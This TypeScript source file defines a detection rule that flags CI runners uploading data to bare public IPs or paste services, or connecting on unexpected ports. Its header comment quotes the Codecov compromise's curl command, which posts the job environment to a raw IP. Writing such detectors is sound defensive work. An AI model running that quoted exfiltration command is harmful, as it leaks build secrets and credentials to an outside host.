// CI runners connecting to public addresses on ports outside the usual egress set, and CI jobs uploading data to a
// bare public IP address (the Codecov bash-uploader compromise, April 2021, posted each job's environment to a raw
// IP with `curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://<ip>/upload/v2`; Sigma "Suspicious Curl File
// Upload - Linux") or to a paste or request-capture service (webhook.site, pastebin: intel/staging-hosts.ts).
// Package registries, caches and artifact stores are reached by name, so a raw IP stands out.
import { tagBaseline } from "../baselines/index.js";
import { clip, isHttpUpload, isRawIpHost, simpleCommands, urlHost, urlsOf } from "./command-lines.js";
import { appendTo, num, processIndex, processLabel, rowsOf, str, tagNumbers } from "../rows.js";
import { isPublic } from "../net.js";
import { stagingHost } from "../intel/staging-hosts.js";
import { defineDetection, type DetectionHit } from "./detection.js";

/** HTTPS, HTTP, SSH (git), DNS, git protocol. */
const CI_EGRESS_PORTS: readonly number[] = [22, 53, 80, 443, 9418];

export const ciRunnerEgress = defineDetection({
  id: "ci-runner-egress",
  title: "CI runner with unexpected egress",
  reads: { process_open_sockets: ["pid", "remote_address", "remote_port"], processes: ["pid", "name", "path", "cmdline"] },
  severity: "medium",
  attack: ["T1041", "T1195.002"],
  maturity: "experimental",
  category: "exfiltration",
  false_positives: "Builds that pull from registries or caches on non-standard ports (a registry on 5000, a cache on 8080); a job posting to a self-hosted service by public IP instead of by name.",
  advice: {
    triage: ["Map the connection on {hosts} to the job that ran at the time (repository, workflow, commit)."],
    containment: ["Pause the runner on {hosts} and revoke the tokens the job could read."],
    investigation: ["Diff the job's dependencies and workflow for new install scripts (a supply-chain payload)."],
    remediation: ["Enforce an egress allow-list for runners; list sanctioned ports in allowed_egress_ports."],
  },
  evaluate(host) {
    if (host.tags.role !== "ci-runner") return [];
    const tagged = new Set(tagNumbers(host.tags, "allowed_egress_ports"));
    const procs = processIndex(host);
    const hits: DetectionHit[] = [];
    const socketsOf = new Map<string, typeof hits[number]["evidence"]>();
    for (const row of rowsOf(host, "process_open_sockets")) {
      const pid = str(row, "pid");
      appendTo(socketsOf, pid, { table: "process_open_sockets", row });
    }
    const uploaders = new Set<string>();
    for (const proc of rowsOf(host, "processes")) {
      const cmdline = str(proc, "cmdline");
      let found: { url: string; where: string } | undefined;
      for (const c of simpleCommands(cmdline)) {
        if (found !== undefined || !isHttpUpload(c)) continue;
        for (const u of urlsOf(c.raw)) {
          const name = urlHost(u);
          const staged = stagingHost(name);
          if (isRawIpHost(name) && isPublic(name)) found = { url: u, where: `the bare IP address ${name}` };
          else if (staged !== undefined) found = { url: u, where: `${staged.host}, a public paste or request-capture service (${staged.source})` };
          if (found !== undefined) break;
        }
      }
      if (found === undefined) continue;
      const pid = str(proc, "pid");
      uploaders.add(pid);
      const name = urlHost(found.url);
      hits.push({
        summary: `CI runner process ${processLabel(proc, pid)} (pid ${pid}) uploads data to ${found.where} (${clip(cmdline, 100)}): build secrets or the job environment may be leaving.`,
        evidence: [{ table: "processes", row: proc }, ...(socketsOf.get(pid) ?? [])],
        entity: isRawIpHost(name) ? `ip:${name}` : `domain:${name}`,
        severity: "high",
      });
    }
    for (const row of rowsOf(host, "process_open_sockets")) {
      const remote = str(row, "remote_address");
      const port = num(row, "remote_port") ?? 0;
      if (port <= 0 || CI_EGRESS_PORTS.includes(port) || !isPublic(remote)) continue;
      const pid = str(row, "pid");
      if (uploaders.has(pid)) continue;
      const proc = procs.get(pid);
      if (tagged.has(port)) {
        hits.push({
          summary: `CI runner process ${processLabel(proc, pid)} (pid ${pid}) connects to ${remote}:${port}, a port in the host's allowed_egress_ports tag.`,
          evidence: proc ? [{ table: "process_open_sockets", row }, { table: "processes", row: proc }] : [{ table: "process_open_sockets", row }],
          entity: `pid:${pid}`,
          kept_by: tagBaseline("allowed_egress_ports"),
        });
        continue;
      }
      hits.push({
        summary: `CI runner process ${processLabel(proc, pid)} (pid ${pid}) connects to ${remote}:${port}${host.tags.repository ? ` (runner for ${host.tags.repository})` : ""}, outside the runner's egress ports.`,
        evidence: proc ? [{ table: "process_open_sockets", row }, { table: "processes", row: proc }] : [{ table: "process_open_sockets", row }],
        entity: `pid:${pid}`,
      });
    }
    return hits;
  },
});
